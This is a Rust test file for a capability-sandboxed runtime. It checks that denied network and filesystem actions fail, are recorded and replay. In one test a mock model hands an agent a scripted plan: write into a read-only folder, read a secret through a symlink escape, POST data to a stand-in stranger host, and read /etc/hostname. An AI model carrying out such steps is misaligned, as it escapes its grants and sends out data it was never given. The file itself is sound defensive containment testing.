//! Guests that try what they were not granted. The guest gets an error, the chain says why, and it
//! all replays.

use std::sync::{Arc, Mutex};

use theater_record::{Outcome, Permission, Value, Values};
use theater_runtime::host::Reason;

use crate::stage::server::Server;
use crate::stage::{Recorded, Setup, folder};

#[test]
fn fetch_may_not_ask_a_server_it_was_not_granted() {
    let server = Server::start(|_| (200, "secret".to_owned()));
    let url = server.url("/");
    let recorded = Setup::of("fetch").args(&[&url]).record();
    ends_with_an_error(&recorded);
    assert_eq!(server.connections(), 0);
    assert!(recorded.stdout.contains("denied: HttpRequestDenied"), "{}", recorded.stdout);
    let denied = denied(&recorded);
    let [(capability, subject, reason)] = &denied[..] else { panic!("{denied:?}") };
    assert_eq!((capability.as_str(), *reason), ("http-client", Reason::NotGranted as u64));
    assert!(subject.contains(&server.authority()), "{subject}");
    drop(server);
    recorded.replays();
}

#[test]
fn what_was_granted_is_in_the_chain_as_well() {
    let server = Server::start(|_| (200, "open".to_owned()));
    let setup = Setup::of("fetch").args(&[&server.url("/")]).http(&server.authority());
    let recorded = setup.record();
    let history = recorded.history();
    let permissions = history.permissions();
    let [Permission { capability, allowed: true, reason: 0, .. }] = permissions[..] else {
        panic!("{permissions:?}")
    };
    assert_eq!(capability, "http-client");
}

#[test]
fn walk_may_not_write_where_it_may_only_read() {
    let tree = folder(&[("a", "one")]);
    let setup = Setup::of("walk").args(&["/in", "/in/report"]).read_only_dir(tree.path(), "/in");
    let recorded = setup.record();
    ends_with_an_error(&recorded);
    assert!(!tree.path().join("report").exists());
    drop(tree);
    assert!(recorded.stderr.contains("Operation not permitted"), "{}", recorded.stderr);
    assert_eq!(
        denied(&recorded),
        [("filesystem".to_owned(), "report".to_owned(), Reason::ReadOnly as u64)]
    );
    recorded.replays();
}

#[cfg(unix)]
#[test]
fn agent_is_denied_what_its_model_should_not_ask_for() {
    let (work, elsewhere) = (folder(&[("in/notes", "mine")]), folder(&[("secret", "theirs")]));
    let out = work.path().join("in/out");
    std::os::unix::fs::symlink(elsewhere.path().join("secret"), out).unwrap();
    let granted = Arc::new(Mutex::new(Vec::new()));
    let reports = granted.clone();
    let stranger = Server::start(|_| (200, "stolen".to_owned()));
    let plan = PLAN.replace("STRANGER", &stranger.authority());
    let model = Server::start(move |request| {
        reports.lock().unwrap().push(request.body.clone());
        let is_first = !request.body.contains("\"step\"");
        (200, if is_first { plan.clone() } else { DONE.to_owned() })
    });
    let setup = Setup::of("agent")
        .args(&[&model.url("/")])
        .http(&model.authority())
        .read_only_dir(&work.path().join("in"), "/in");
    let recorded = setup.record();
    assert_eq!(stranger.connections(), 0);
    drop((work, elsewhere, stranger, model));

    let told = granted.lock().unwrap().pop().expect("the model heard of the outcome");
    assert_eq!(told.matches("\"denied\"").count(), 3, "{told}");
    assert!(!told.contains("stolen") && !recorded.stdout.contains("theirs"));
    let reasons: Vec<u64> = denied(&recorded).into_iter().map(|(_, _, reason)| reason).collect();
    let expected = [Reason::ReadOnly, Reason::Outside, Reason::NotGranted];
    assert_eq!(reasons, expected.map(|reason| reason as u64), "{:?}", denied(&recorded));
    recorded.replays();
}

/// The last one does not even reach the host: no folder that was granted could hold it.
const PLAN: &str = r#"{"steps": [
    {"tool": "write", "path": "/in/new", "text": "x"},
    {"tool": "read", "path": "/in/out"},
    {"tool": "post", "url": "http://STRANGER/", "json": {"all": "of it"}},
    {"tool": "read", "path": "/etc/hostname"}
], "done": false}"#;

const DONE: &str = r#"{"steps": [], "done": true}"#;

/// The program told who started it that it failed.
#[track_caller]
fn ends_with_an_error(recorded: &Recorded) {
    let error = Values::of(&[Value::Result(Err(None))]).unwrap();
    assert_eq!(*recorded.history().end(), Outcome::Returned(error));
}

/// Capability, subject and reason of what was denied.
fn denied(recorded: &Recorded) -> Vec<(String, String, u64)> {
    let history = recorded.history();
    let denied = history.permissions().into_iter().filter(|permission| !permission.allowed);
    let parts = |it: &Permission| (it.capability.clone(), it.subject.clone(), it.reason);
    denied.map(parts).collect()
}
